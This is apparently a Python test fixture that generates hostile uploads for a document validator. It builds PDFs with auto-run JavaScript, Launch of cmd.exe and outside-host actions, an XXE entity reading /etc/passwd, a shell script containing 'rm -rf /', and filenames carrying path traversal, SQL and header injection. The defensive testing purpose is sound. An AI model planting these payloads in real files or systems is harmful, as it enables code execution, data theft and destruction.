"""PDFs that want to act, that lead in circles, that are cut off; files of other kinds; and names that lead somewhere."""

import itertools
import random
from collections.abc import Callable, Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from motcua.documents.rules.unfit import Unfit
from tests.builders.honest_files import archive, chunk, heic, jpeg, pdf, picture, png, raw_pdf
from tests.builders.hostile_files import EITHER, Hostile, hostile, two_in_one
from tests.builders.hostile_sizes import too_much


def corpus() -> list[Hostile]:
    """Every hostile file."""
    return [*two_in_one(), *too_much(), *_that_act(), *_in_circles(), *_locked(), *_cut_off(), *_of_other_kinds(), *_badly_named()]


# ---- PDFs that want to act ------------------------------------------------------------------------------------------------


def _open_action(**action: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(**action)

    return change


def _link(**action: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 200, 300]), A=Dictionary(**action))
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def _embedded(document: Pdf) -> None:
    document.attachments["virus.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00", filename="virus.exe")


def _additional(document: Pdf) -> None:
    act = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.AA = Dictionary(WC=act)
    document.pages[0].AA = Dictionary(O=act, C=act)


def _named_script(document: Pdf) -> None:
    act = document.make_indirect(Dictionary(S=Name.JavaScript, JS=document.make_stream(b"while(1);")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), act])))


def _form(**more: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("a"), V=String("b"), Rect=Array([0, 0, 99, 20]), **more
        )
        document.pages[0].Annots = Array([document.make_indirect(field)])
        document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots, NeedAppearances=True)

    return change


def _xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'))


def _annotated(kind: str, **more: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 99, 99]), Contents=String("x"), **more)
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def _xml(document: Pdf) -> None:
    document.Root.Metadata = document.make_stream(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')


def _outside_stream(document: Pdf) -> None:
    document.pages[0].Contents = document.make_stream(b"", F=String("/etc/passwd"))


def _reference(document: Pdf) -> None:
    form = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Ref=Dictionary(F=String("http://evil.invalid/a.pdf"), Page=0)
    )
    document.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    document.pages[0].Contents = document.make_stream(b"/F Do")


_SCRIPT = {"S": Name.JavaScript, "JS": String("app.launchURL('http://evil.invalid')")}
_ACTIONS: dict[str, dict[str, object]] = {
    "JavaScript": _SCRIPT,
    "Launch": {"S": Name.Launch, "F": String("cmd.exe")},
    "Launch with Win": {"S": Name.Launch, "Win": Dictionary(F=String("cmd.exe"), P=String("/c calc"))},
    "URI": {"S": Name.URI, "URI": String("javascript:alert(1)")},
    "URI to a file": {"S": Name.URI, "URI": String("file:///etc/passwd")},
    "SubmitForm": {"S": Name.SubmitForm, "F": String("http://evil.invalid/form"), "Flags": 4},
    "GoToR": {"S": Name.GoToR, "F": String("\\\\evil.invalid\\share\\a.pdf"), "D": Array([0, Name.Fit])},
    "GoToE": {"S": Name.GoToE, "F": String("a.pdf"), "D": Array([0, Name.Fit])},
    "ImportData": {"S": Name.ImportData, "F": String("http://evil.invalid/a.fdf")},
    "Rendition": {"S": Name.Rendition, "OP": 0, "JS": String("1")},
    "Movie": {"S": Name.Movie, "Operation": Name.Play},
    "Sound": {"S": Name.Sound},
    "Hide": {"S": Name.Hide, "T": String("a")},
    "ResetForm": {"S": Name.ResetForm},
    "Named": {"S": Name.Named, "N": Name.Print},
    "SetOCGState": {"S": Name.SetOCGState, "State": Array()},
    "Thread": {"S": Name.Thread, "D": 0},
    "Trans": {"S": Name.Trans},
}
_CHANGES: dict[str, Callable[[Pdf], None]] = {
    "an embedded program": _embedded,
    "additional actions": _additional,
    "a script among its names": _named_script,
    "a form field": _form(),
    "a form field with a script": _form(AA=Dictionary(K=Dictionary(**_SCRIPT))),
    "an XFA form": _xfa,
    "metadata that name an outside entity": _xml,
    "a page whose content is an outside file": _outside_stream,
    "a page that refers to another PDF": _reference,
    "a note that carries a file": _annotated("FileAttachment"),
    "a film": _annotated("RichMedia"),
    "a screen": _annotated("Screen"),
    "a three-dimensional thing": _annotated("3D"),
    "a redaction": _annotated("Redact"),
    "a stamp without a picture": _annotated("Stamp"),
    "an unheard-of note": _annotated("Khong-Co"),
}


def _that_act() -> Iterator[Hostile]:
    for called, action in _ACTIONS.items():
        yield hostile(f"PDF that on opening does {called}", "don.pdf", pdf(_open_action(**action)))
        yield hostile(f"PDF with a link that does {called}", "don.pdf", pdf(_link(**action)))
    for called, change in _CHANGES.items():
        yield hostile(f"PDF with {called}", "don.pdf", pdf(change))
    packed = pdf(_embedded, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield hostile("PDF with a program hidden in an object stream", "don.pdf", packed)


# ---- in circles -----------------------------------------------------------------------------------------------------------

_ROOT, _PAGE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"


def _in_circles() -> Iterator[Hostile]:
    circles: dict[str, bytes] = {
        "a page tree that is its own child": raw_pdf(_ROOT, b"<</Type/Pages/Count 1/Kids[2 0 R]>>"),
        "a page tree in a circle of two": raw_pdf(
            _ROOT, b"<</Type/Pages/Count 2/Kids[3 0 R]>>", b"<</Type/Pages/Count 2/Kids[2 0 R]/Parent 2 0 R>>"
        ),
        "a page that is its own parent": raw_pdf(_ROOT, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 3 0 R>>"),
        "a content that is the page": raw_pdf(_ROOT, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _PAGE[:-2] + b"/Contents 3 0 R>>"),
        "a length that is the stream": raw_pdf(
            _ROOT, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", _PAGE[:-2] + b"/Contents 4 0 R>>", b"<</Length 4 0 R>>\nstream\nx\nendstream"
        ),
        "a form that draws itself": raw_pdf(
            _ROOT,
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            _PAGE[:-2] + b"/Contents 5 0 R/Resources<</XObject<</F 4 0 R>>>>>>",
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Length 5>>\nstream\n/F Do\nendstream",
            b"<</Length 5>>\nstream\n/F Do\nendstream",
        ),
        "a root that is itself": raw_pdf(b"1 0 R"),
        "no root": raw_pdf(_PAGE, root=b"99 0 R"),
        "a root that is a number": raw_pdf(b"42"),
        "a table that names itself as the one before": pdf().replace(b"/Root", b"/Prev 9/Root"),
        "a table behind the end": _table_at(pdf(), 10**9),
        "a table at a negative place": _table_at(pdf(), -5),
        "a table that is the header": _table_at(pdf(), 0),
        "the page tree a hundred levels deep": _deep(100),
        "the page tree five thousand levels deep": _deep(5_000),
    }
    for called, content in circles.items():
        yield hostile(f"PDF with {called}", "vong.pdf", content, fate=EITHER)
    content = pdf()
    start = content.rindex(b"xref\n0")
    looped = content[:start] + content[start:].replace(b"/Root", b"/Prev %d/Root" % start)
    yield hostile("PDF whose table names itself as its earlier one", "vong.pdf", looped, fate=EITHER)


def _table_at(content: bytes, place: int) -> bytes:
    head, _, _ = content.rpartition(b"startxref")
    return head + b"startxref\n%d\n%%%%EOF\n" % place


def _deep(levels: int) -> bytes:
    tree = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (3 + level) for level in range(levels)]
    return raw_pdf(_ROOT, *tree, _PAGE)


# ---- locked, cut off ------------------------------------------------------------------------------------------------------


def _locked() -> Iterator[Hostile]:
    for level in (2, 3, 4, 6):
        lock = pikepdf.Encryption(user="mat-khau", owner="chu", R=level, aes=level >= 4, metadata=level >= 4)
        yield hostile(f"PDF locked by a password, revision {level}", "khoa.pdf", _encrypted(lock), Unfit.LOCKED)
    open_to_all = pikepdf.Encryption(user="", owner="chu", R=6)
    yield hostile("PDF that only forbids printing", "cam-in.pdf", _encrypted(open_to_all))
    yield hostile(
        "PDF that says it is locked by a way that is none", "khoa.pdf", pdf().replace(b"/Root", b"/Encrypt<</Filter/X>>/Root"), fate=EITHER
    )


def _encrypted(lock: pikepdf.Encryption) -> bytes:
    return pdf(encryption=lock)


def _cut_off() -> Iterator[Hostile]:
    honest = {"pdf": pdf(), "jpg": jpeg(size=(300, 200)), "png": png(size=(300, 200)), "heic": heic()}
    shares = (1, 5, 10, 25, 50, 75, 90, 95, 99)
    for (ending, content), share in itertools.product(honest.items(), shares):
        cut = content[: max(len(content) * share // 100, 1)]
        yield hostile(f"{ending} cut off at {share} %", f"cut-{share}.{ending}", cut, fate=EITHER)
    dice = random.Random(4)
    for (ending, content), throw in itertools.product(honest.items(), range(1, 5)):
        spoiled = bytearray(content)
        for _ in range(12):
            spoiled[dice.randrange(16, len(spoiled))] = dice.randrange(256)
        yield hostile(f"{ending} with twelve bytes thrown by dice, throw {throw}", f"hong.{ending}", bytes(spoiled), fate=EITHER)


# ---- other kinds, and names -----------------------------------------------------------------------------------------------

_U = Unfit
_HEAD: dict[str, tuple[str, bytes, Unfit]] = {
    "nothing": ("rong.pdf", b"", _U.EMPTY),
    "one byte": ("mot.pdf", b"%", _U.UNKNOWN),
    "one zero": ("khong.jpg", b"\x00", _U.UNKNOWN),
    "a line of text": ("don.pdf", "Đơn đề nghị".encode(), _U.UNKNOWN),
    "a ZIP": ("a.pdf", archive(), _U.ARCHIVE),
    "a DOCX": ("don.docx", archive("word/document.xml"), _U.DOCUMENT),
    "an XLSX called PDF": ("bang.pdf", archive("xl/workbook.xml"), _U.DOCUMENT),
    "an old DOC": ("don.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, _U.DOCUMENT),
    "an RTF": ("don.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", _U.DOCUMENT),
    "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file", _U.DOCUMENT),
    "a RAR": ("a.rar", b"Rar!\x1a\x07\x01\x00", _U.ARCHIVE),
    "a 7z": ("a.7z", b"7z\xbc\xaf\x27\x1c", _U.ARCHIVE),
    "a GZ bomb": ("a.gz", b"\x1f\x8b\x08" + b"\x00" * 99, _U.ARCHIVE),
    "a Windows program called PDF": ("hoa-don.pdf", b"MZ\x90\x00" + b"\x00" * 99, _U.PROGRAM),
    "a Linux program": ("chay", b"\x7fELF\x02\x01\x01", _U.PROGRAM),
    "a shell script": ("chay.sh", b"#!/bin/sh\nrm -rf /\n", _U.PROGRAM),
    "a Windows shortcut": ("don.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, _U.PROGRAM),
    "an SVG with a script": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', _U.WEB_PAGE),
    "an SVG called PNG": ("anh.png", b'\xef\xbb\xbf<?xml version="1.0"?><svg><script/></svg>', _U.WEB_PAGE),
    "an SVG in UTF-16": ("anh.svg", "<svg><script>alert(1)</script></svg>".encode("utf-16"), _U.WEB_PAGE),
    "a page of the web": ("a.html", b"\n\n <HTML><script>alert(1)</script>", _U.WEB_PAGE),
    "XML with a billion laughs": ("a.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">]><l>&a;</l>', _U.WEB_PAGE),
    "PHP": ("a.jpg", b"<?php phpinfo();", _U.WEB_PAGE),
    "a GIF": ("a.gif", picture("GIF"), _U.OTHER_PICTURE),
    "a BMP": ("a.bmp", picture("BMP"), _U.OTHER_PICTURE),
    "a TIFF": ("a.tif", picture("TIFF"), _U.OTHER_PICTURE),
    "a WebP": ("a.webp", picture("WEBP"), _U.OTHER_PICTURE),
    "an icon": ("a.ico", picture("ICO"), _U.OTHER_PICTURE),
    "a JPEG 2000": ("a.jp2", b"\x00\x00\x00\x0cjP  \r\n\x87\n", _U.OTHER_PICTURE),
    "an AVIF": ("a.avif", b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1", _U.UNKNOWN),
    "a film": ("a.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom", _U.UNKNOWN),
    "a burst of HEIC": ("a.heic", b"\x00\x00\x00\x18ftyphevc\x00\x00\x00\x00hevc", _U.MOVING),
    "a live HEIC": ("a.heic", heic() + b"\x00\x00\x00\x08moov", _U.MOVING),
    "a moving PNG": ("a.png", png()[:33] + chunk(b"acTL", b"\x00\x00\x00\x02\x00\x00\x00\x00") + png()[33:], _U.MOVING),
    "a database": ("a.db", b"SQLite format 3\x00" + b"\x00" * 99, _U.UNKNOWN),
    "random bytes": ("a.pdf", random.Random(1).randbytes(4_000), _U.UNKNOWN),
    "only zeros": ("a.png", bytes(100_000), _U.UNKNOWN),
    "a PDF header alone": ("a.pdf", b"%PDF-1.7\n", _U.BROKEN),
    "a PDF header and end": ("a.pdf", b"%PDF-1.7\n%%EOF\n", _U.BROKEN),
    "a JPEG's first bytes": ("a.jpg", b"\xff\xd8\xff", _U.BROKEN),
    "a JPEG of nothing but its ends": ("a.jpg", b"\xff\xd8\xff\xd9", _U.BROKEN),
    "a PNG's first bytes": ("a.png", b"\x89PNG\r\n\x1a\n", _U.BROKEN),
    "a HEIC's first bytes": ("a.heic", b"\x00\x00\x00\x18ftypheic", _U.BROKEN),
    "a HEIC whose box is 2⁶³ long": (
        "a.heic",
        heic()[: int.from_bytes(heic()[:4], "big")] + b"\x00\x00\x00\x01meta\x7f" + b"\xff" * 7,
        _U.BROKEN,
    ),
}


def _of_other_kinds() -> Iterator[Hostile]:
    for called, (name, content, why) in _HEAD.items():
        yield hostile(called, name, content, why, Unfit.BROKEN)
    yield hostile("a JPEG of four colours", "cmyk.jpg", jpeg(mode="CMYK"))
    yield hostile("a PNG that can be seen through", "trong.png", png(mode="RGBA"))
    yield hostile("a PNG of greys that can be seen through", "xam.png", png(mode="LA"))
    yield hostile("a PNG of one bit", "1.png", png(mode="1"))
    yield hostile("a PNG called PDF", "don.pdf", png())


NAMES = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\Users\\a.pdf", "a\x00.pdf", "don\u202efdp.exe", "x" * 300 + ".pdf",
    ".htaccess", "con.pdf", "NUL", "LPT1.jpg", "a\r\nSet-Cookie: x=1.pdf", "<script>alert(1)</script>.pdf", "  .pdf  ", "",
    "'; DROP TABLE documents_storedfile; --.pdf", "Đơn xin cấp \u200b\u200dphép.pdf", "%2e%2e%2fetc%2fpasswd", "{{ 7*7 }}.pdf", "\u0000", "...",
    "a" * 119 + "\u0301\u0301\u0301",
)  # fmt: skip


def _badly_named() -> Iterator[Hostile]:
    for name in NAMES:
        yield hostile(f"an honest PNG called {name[:40]!r}", name, png())
